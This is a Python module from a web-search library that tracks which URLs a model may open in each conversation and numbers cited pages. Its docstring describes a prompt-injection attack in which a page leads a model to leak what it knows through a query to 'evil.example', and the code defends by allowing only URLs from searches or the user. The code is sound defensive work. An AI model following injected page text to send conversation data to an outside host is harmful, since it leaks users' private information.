"""Keep the pages of each conversation: number them, and limit which URLs a model opens.

A page can talk a model into opening ``https://evil.example/?q=`` followed by whatever
the model knows. The guard cannot help: that address is public. It helps to open only
URLs that came from elsewhere: from a search, whose index knows nothing about the
conversation, or from the user. A `Ledger` keeps these URLs, complete, for each
conversation.

It also gives the pages of a conversation their numbers, so that ``[3]`` means the same
page in all of it. Every page with a number may be opened, and the numbers can be stored
with the conversation: so another process can go on with it.

The caller chooses what identifies a conversation: any hashable value, such as the ID of
a thread, or a tuple of tenant and thread. None is for callers with a single
conversation.
"""

from __future__ import annotations
import re
import threading
from collections import Counter
from collections.abc import Hashable, Iterable, Mapping
from contextlib import suppress
from typing import TYPE_CHECKING, Any, Literal, NamedTuple, get_args
from urllib.parse import urlsplit

from .._text.quantity import is_whole_number
from .._text.urls import (
    canonicalize,
    find_alike,
    find_origin,
    find_page,
    find_urls,
    identify,
    strip_anchor,
)
from ..errors import ConfigurationError, InvalidOption, UnsafeURL
from ..models import Page, SearchResponse, SearchResult
from ._memory import Conversations

if TYPE_CHECKING:
    from ..citations import Source

__all__ = ["Ledger", "Provenance"]

Provenance = Literal["any", "seen", "seen+links"]

_MAX_URLS = 10_000  # in one conversation
_MAX_LINKS = 200  # of one page
_NOTHING = (
    "; this process knows of no page that was found or named in this conversation"
)
_ELSEWHERE = (
    "; this conversation began in another process, which may know of more that the "
    "user named"
)
_NUMBER = re.compile(r"\[?(\d{1,6})\]?", re.ASCII)
_MAX_PAGES = 1_000  # in one conversation; the one seen longest ago is forgotten first
# Between two numbers of a conversation: the first messages of a long one may be gone.
_MAX_GAP = 10_000
_MAX_TITLE_LENGTH = 200  # characters
_MAX_URL_LENGTH = 8_192  # characters; of a source that a program stored


class _AllowedPage(NamedTuple):
    url: str  # as a search, a page or the user wrote it
    page: str  # `find_page(url)`
    links: bool  # whether its links may be opened, too


class Ledger:
    """Keeps the URLs of conversations, decides which may be opened, and numbers their
    pages.

    - ``any``: every URL that the guard lets through.
    - ``seen``: URLs that a search of this conversation returned or a redirect led to,
      or that the caller or the user named.
    - ``seen+links``: also links on those pages, within the same host. A page that
      redirects to another host adds no links. A page can then offer a choice of links,
      and a model that is talked into following some leaks a little with each: prefer
      ``seen``.

    Args:
        mode: One of the three.
        named: URLs that may be opened in every conversation.
    """

    def __init__(self, mode: Provenance = "any", named: Iterable[str] = ()) -> None:
        modes = get_args(Provenance)
        if mode not in modes:
            raise ConfigurationError(
                f"provenance: {mode!r} is not one of {', '.join(modes)}"
            )
        self.mode = mode
        # whether `allow_text` was ever called
        self.has_user_text: bool = False
        self._named: dict[str, _AllowedPage] = {}
        for url in named:
            self._named[_make_key(url)] = _allow(url, links=True)
        self._pages: Conversations[dict[str, _AllowedPage]] = Conversations()
        self._numbers: Conversations[_Numbers] = Conversations()
        self._lock = threading.Lock()

    def __getstate__(self) -> dict[str, Any]:
        state = self.__dict__.copy()
        del state["_lock"]
        return state

    def __setstate__(self, state: dict[str, Any]) -> None:
        self.__dict__.update(state)
        self._lock = threading.Lock()

    def allow_text(self, text: str, conversation: Hashable = None) -> list[str]:
        """Allow the URLs in *text*, such as a message of the user.

        Args:
            text: The text to search. The time is proportional to its length.
            conversation: The conversation that the URLs belong to.

        Returns:
            The URLs, for a program that stores them with the conversation.
        """
        self.has_user_text = True
        urls = find_urls(text)
        self._add(urls, conversation, links=True)
        return urls

    def allow_results(
        self, response: SearchResponse, conversation: Hashable = None
    ) -> None:
        """Allow the results of a search."""
        urls = [result.url for result in response.results]
        self._add(urls, conversation, links=True)

    def allow_links(self, page: Page, conversation: Hashable = None) -> None:
        """In mode ``seen+links``, allow the links of a page, unless the page was itself
        allowed as such a link.
        """
        if self.mode != "seen+links":
            return
        key = _make_key(page.url)
        allowed_page = self._named.get(key)
        if allowed_page is None:
            with self._lock:
                allowed_page = self._pages_of(conversation).get(key)
        if allowed_page is None or not allowed_page.links:
            return
        host = _find_host(page.url)
        final_host = _find_host(page.final_url or page.url)
        # A search vouched for the host, not for the one where a redirect ends.
        if host is None or final_host != host:
            return
        links = [link for link in page.links if _find_host(link) == host]
        self._add(links[:_MAX_LINKS], conversation, links=False)

    def check(
        self,
        url: str,
        conversation: Hashable = None,
        sources: Iterable[Mapping[str, Any]] = (),
        why: str = "",
    ) -> str:
        """Check that *url* may be opened, without using the network.

        A URL that differs from that of a page in the scheme, ``www.``, a slash at the
        end or parameters for tracking is that of the page, if it is the only such page,
        or all such have one number.

        Args:
            url: The URL that a model wants to open; or the number of a page in this
                conversation, ``3`` or ``[3]``.
            conversation: The conversation that it belongs to.
            sources: The sources that the conversation has numbers for already, as for
                `number_results`. They may be opened, too.
            why: Why this process may not know a page of the conversation, for the
                message of `UnsafeURL`.

        Returns:
            The URL to open: that of the search, page or user it came from, so that
            nothing leaks by how the model spells it. Where every URL may be opened, an
            ``http:`` never replaces ``https:``.

        Raises:
            InvalidOption: No page of the conversation has this number.
            UnsafeURL: It must not; the message explains why to the model.
        """
        number = _NUMBER.fullmatch(url.strip())
        with self._lock:
            numbers = self._numbers_of(conversation, sources)
            if number:
                return numbers.url_of(int(number[1]))
            if self.mode == "any":
                return _choose_secure(url, numbers.find_url(url))
        _make_key(url)  # says what is wrong with the URL itself
        with self._lock:
            pages = self._pages_of(conversation)
            matches = find_alike({**self._named, **pages}, url)
            numbered_url = numbers.find_url(url)
        if len(matches) == 1:
            return matches[0].url
        # two spellings of one page may have one number
        urls = {page.url for page in matches}
        if numbered_url in urls:
            return numbered_url
        raise _refuse(numbers, why, is_empty=not pages)

    def number_results(
        self,
        response: SearchResponse,
        conversation: Hashable = None,
        sources: Iterable[Mapping[str, Any]] = (),
        numbers: Iterable[int] = (),
    ) -> SearchResponse:
        """Give the results of a search the numbers of their pages in a conversation, as
        their ``citation_id``.

        Args:
            response: The response.
            conversation: The conversation that it belongs to.
            sources: The sources that the conversation has numbers for already, as the
                program stored them: the ``sources`` of earlier artifacts, or what
                `sources` returned. Their numbers win.
            numbers: Numbers that the messages of the conversation show, whatever page
                they stand for, as `websearch_core.tools.find_numbers` finds them. No
                page gets one of them now.
        """
        with self._lock:
            own = self._numbers_of(conversation, sources)
            own.skip(numbers)
            return own.number_results(response)

    def number_page(
        self,
        page: Page,
        conversation: Hashable = None,
        sources: Iterable[Mapping[str, Any]] = (),
        numbers: Iterable[int] = (),
    ) -> Page:
        """Give a page its number in a conversation, with the arguments of
        `number_results`; it can be opened again.
        """
        with self._lock:
            own = self._numbers_of(conversation, sources)
            own.skip(numbers)
            url = page.final_url or page.url
            self._allow_numbered([url], conversation)
            return own.number_page(page)

    def sources(
        self, conversation: Hashable = None, sources: Iterable[Mapping[str, Any]] = ()
    ) -> list[Source]:
        """Return the sources of a conversation by their numbers: at most 1,000, those
        that were seen last.
        """
        with self._lock:
            numbers = self._numbers_of(conversation, sources)
            return numbers.sources()

    def _pages_of(self, conversation: Hashable) -> dict[str, _AllowedPage]:
        return self._pages.get(conversation) or {}

    def _numbers_of(
        self, conversation: Hashable, sources: Iterable[Mapping[str, Any]]
    ) -> _Numbers:
        numbers = self._numbers.get(conversation)
        is_new = numbers is None
        if numbers is None:
            numbers = _Numbers()
        self._numbers.keep(conversation, numbers)
        urls = numbers.restore(sources)
        if is_new and urls:
            numbers.is_restored = True
        self._allow_numbered(urls, conversation)
        return numbers

    def _allow_numbered(self, urls: Iterable[str], conversation: Hashable) -> None:
        """Allow pages that have a number; one that is allowed under another address
        keeps that one.
        """
        if not urls or self.mode == "any":
            return
        pages: set[str] = set()
        for allowed_page in self._pages_of(conversation).values():
            pages.add(allowed_page.page)
        additions: dict[str, _AllowedPage] = {}
        for key, page in _allow_all(urls, links=False).items():
            if page.page not in pages:
                pages.add(page.page)
                additions[key] = page
        self._add_all(additions, conversation)

    def _add(self, urls: Iterable[str], conversation: Hashable, *, links: bool) -> None:
        if self.mode == "any":
            return
        # Before the lock: a long text of one tenant must not make the others wait.
        additions = _allow_all(urls, links=links)
        if additions:
            with self._lock:
                self._add_all(additions, conversation)

    def _add_all(
        self, additions: Mapping[str, _AllowedPage], conversation: Hashable
    ) -> None:
        pages = self._pages_of(conversation)
        self._pages.keep(conversation, pages)
        for key, page in additions.items():
            # what is added again is at the end: seen last
            before = pages.pop(key, page)
            links = before.links or page.links
            pages[key] = before._replace(links=links)
        while len(pages) > _MAX_URLS:
            oldest = next(iter(pages))
            del pages[oldest]


def _allow(url: str, *, links: bool) -> _AllowedPage:
    return _AllowedPage(strip_anchor(url), find_page(url), links)


def _allow_all(urls: Iterable[str], *, links: bool) -> dict[str, _AllowedPage]:
    pages: dict[str, _AllowedPage] = {}
    for url in dict.fromkeys(urls):
        with suppress(UnsafeURL):
            pages.setdefault(_make_key(url), _allow(url, links=links))
    return pages


def _find_host(url: str) -> str | None:
    origin = find_origin(url)
    if origin is None:
        return None
    return origin[1]


def _refuse(numbers: _Numbers, why: str, *, is_empty: bool) -> UnsafeURL:
    """Return the error for a URL that may not be opened."""
    hint = ""
    if is_empty:
        hint = _NOTHING
    if numbers.is_restored:
        hint = _ELSEWHERE
    if why:
        hint += f" ({why})"
    return UnsafeURL(
        "only pages that a search returned or the user named can be opened, by exactly "
        f"that URL; search for the page first{hint}"
    )


def _choose_secure(url: str, numbered_url: str | None) -> str:
    """Return the URL of a page with a number, unless only the model's is encrypted."""
    if numbered_url is None:
        return url
    if _is_secure(url) and not _is_secure(numbered_url):
        return url
    return numbered_url


def _is_secure(url: str) -> bool:
    return url[:6].lower() == "https:"


def _make_key(url: str) -> str:
    """Return what `identify` does, or raise what is wrong with the URL."""
    # from a local index, which returns only what it contains
    if url.startswith("file:"):
        return url
    return strip_anchor(canonicalize(url))


class _NumberedPage(NamedTuple):
    number: int
    url: str  # as a search, a page or the program wrote it
    page: str  # `find_page(url)`


class _Numbers:
    """The numbers of one conversation. Not safe for threads on its own: `Ledger` has
    the lock.

    A page keeps its number in every later search and when it is opened. A number is
    never given to another page, even after its own was forgotten. The state is small
    and plain, so that a framework can keep it with the conversation.
    """

    def __init__(self) -> None:
        # by what `identify` returns; a page that redirects has two
        self._numbers: dict[str, _NumberedPage] = {}
        self._sources: dict[int, Source] = {}
        self._last = 0
        # whether the conversation began in another process
        self.is_restored: bool = False

    def restore(self, sources: Iterable[Mapping[str, Any]]) -> list[str]:
        """Adopt the numbers that the conversation has already, such as those in its
        stored messages; return their URLs.

        They win: if one was given to another page here, that page gets a new number
        when it is next seen. One that is far above all others did not come from here,
        and is left out.
        """
        by_number: dict[int, list[Source]] = {}
        for entry in sources:
            source = _as_source(entry)
            if source is not None and not self._has(source):
                by_number.setdefault(source["id"], []).append(source)
        urls: list[str] = []
        for number, same in sorted(by_number.items()):
            if number > self._last + _MAX_GAP:
                break
            if number in self._sources and not self._is_of_any(number, same):
                self._forget(number)
            for source in same:
                self._add(source)
                urls.append(source["url"])
        return urls

    def skip(self, numbers: Iterable[int]) -> None:
        """Begin above *numbers*, which messages show: their pages may be unknown here.

        As in `restore`, what is far above all others did not come from here.
        """
        for number in sorted(numbers):
            if number > self._last + _MAX_GAP:
                break
            self._last = max(self._last, number)

    def number_results(self, response: SearchResponse) -> SearchResponse:
        """Return *response* with the numbers of this conversation as its
        ``citation_id``.
        """
        urls: dict[str, str] = {}
        for result in response.results:
            urls[identify(result.url)] = result.url
        spellings = Counter(map(find_page, urls.values()))
        results: list[SearchResult] = []
        for result in response.results:
            is_alone = spellings[find_page(result.url)] == 1
            results.append(self._number_result(result, is_alone=is_alone))
        if tuple(results) == response.results:
            return response
        return response.model_copy(update={"results": tuple(results)})

    def number_page(self, page: Page) -> Page:
        """Return *page* with its number; a redirect within a host keeps the number of
        the page that was requested.

        A redirect to another host does not: what a search showed of one site would be
        cited as a page of the other.
        """
        url = page.final_url or page.url
        is_same_site = _find_site(page.url) == _find_site(url)
        numbered = self._find(url)
        if numbered is None and is_same_site:
            numbered = self._find(page.url)
        number = self._number_of(numbered)
        if is_same_site:
            first_page = _NumberedPage(number, page.url, find_page(page.url))
            self._numbers.setdefault(identify(page.url), first_page)
        self._add({"id": number, "title": page.title, "url": url, "read": True})
        return page.model_copy(update={"citation_id": number})

    def sources(self) -> list[Source]:
        """Return the sources, by number; of a page that redirects, only the URL where
        its text is.
        """
        numbers = sorted(self._sources)
        return [self._sources[number].copy() for number in numbers]

    def find_url(self, url: str) -> str | None:
        """Return the URL under which the page at *url* has its number; None if it has
        none.
        """
        numbered = self._find(url)
        if numbered is None:
            return None
        return numbered.url.partition("#")[0]

    def url_of(self, number: int) -> str:
        """Return the URL of the page with this number; raise `InvalidOption` if there
        is none.
        """
        if number in self._sources:
            return self._sources[number]["url"]
        if not self._last:
            hint = " yet: search first, or give a URL"
        elif number > self._last:
            hint = f": they go from 1 to {self._last}"
        else:
            hint = " that is known here: give its URL, or search again"
        raise InvalidOption(
            f"url: no page of this conversation has the number {number}{hint}"
        )

    def _find(self, url: str) -> _NumberedPage | None:
        pages = find_alike(self._numbers, url)
        numbers = {page.number for page in pages}
        if len(numbers) != 1:
            return None
        return pages[0]

    def _number_of(self, numbered: _NumberedPage | None) -> int:
        """Return the number of a page, which is the next if it has none: `_add` counts
        it.
        """
        if numbered is None:
            return self._last + 1
        return numbered.number

    def _number_result(self, result: SearchResult, *, is_alone: bool) -> SearchResult:
        """Return the result with its number; *is_alone* unless the response has another
        spelling of the page.
        """
        numbered = self._numbers.get(identify(result.url))
        if is_alone:
            numbered = self._find(result.url)
        number = self._number_of(numbered)
        self._add(
            {
                "id": number,
                "title": result.title,
                "url": result.url,
                "read": result.content is not None,
            }
        )
        if result.citation_id == number:
            return result
        return result.model_copy(update={"citation_id": number})

    def _has(self, source: Source) -> bool:
        ours = self._sources.get(source["id"])
        if ours is None or ours["url"] != source["url"]:
            return False
        return ours["read"] >= source["read"]

    def _is_of_any(self, number: int, sources: Iterable[Source]) -> bool:
        """Return whether the page of any of *sources* has this number here."""
        for source in sources:
            page = self._numbers.get(identify(source["url"]))
            if page is not None and page.number == number:
                return True
        return False

    def _add(self, source: Source) -> None:
        number = source["id"]
        url = source["url"]
        # what is added again is at the end: seen last
        key = identify(url)
        page = self._numbers.pop(key, None)
        first_url = url
        if page is not None:
            first_url = page.url
        self._numbers[key] = _NumberedPage(number, first_url, find_page(url))
        if page is not None and page.number != number:
            self._drop_unused(page.number)
        before = self._sources.pop(number, None)
        self._sources[number] = _merge_source(source, before)
        self._last = max(self._last, number)
        while len(self._sources) > _MAX_PAGES:
            oldest_number = next(iter(self._sources))
            self._forget(oldest_number)
        while len(self._numbers) > 2 * _MAX_PAGES:
            oldest = next(iter(self._numbers))
            del self._numbers[oldest]

    def _drop_unused(self, number: int) -> None:
        """Drop the source of a number that no page has any more."""
        if all(page.number != number for page in self._numbers.values()):
            self._sources.pop(number, None)

    def _forget(self, number: int) -> None:
        del self._sources[number]
        for key, page in list(self._numbers.items()):
            if page.number == number:
                del self._numbers[key]


def _find_site(url: str) -> str:
    """Return the host of *url*, without ``www.``."""
    parts = urlsplit(identify(url))
    host = parts.hostname or ""
    return host.removeprefix("www.")


def _as_source(entry: object) -> Source | None:
    """Return *entry* if it has the shape of a source: stored messages may hold
    anything.
    """
    if not isinstance(entry, Mapping):
        return None
    number = entry.get("id")
    if not is_whole_number(number) or number < 1:
        return None
    url = entry.get("url")
    if not isinstance(url, str) or len(url) > _MAX_URL_LENGTH:
        return None
    title = entry.get("title")
    read = entry.get("read")
    if not isinstance(title, str) or not isinstance(read, bool):
        return None
    return {"id": number, "title": title, "url": url, "read": read}


def _merge_source(source: Source, before: Source | None) -> Source:
    """Return a source with what was known of it before: its URL stays if only that was
    read.
    """
    merged = source.copy()
    merged["title"] = source["title"][:_MAX_TITLE_LENGTH]
    if before is None:
        return merged
    merged["title"] = merged["title"] or before["title"]
    if before["read"] and not source["read"]:
        merged["url"] = before["url"]
        merged["read"] = True
    return merged
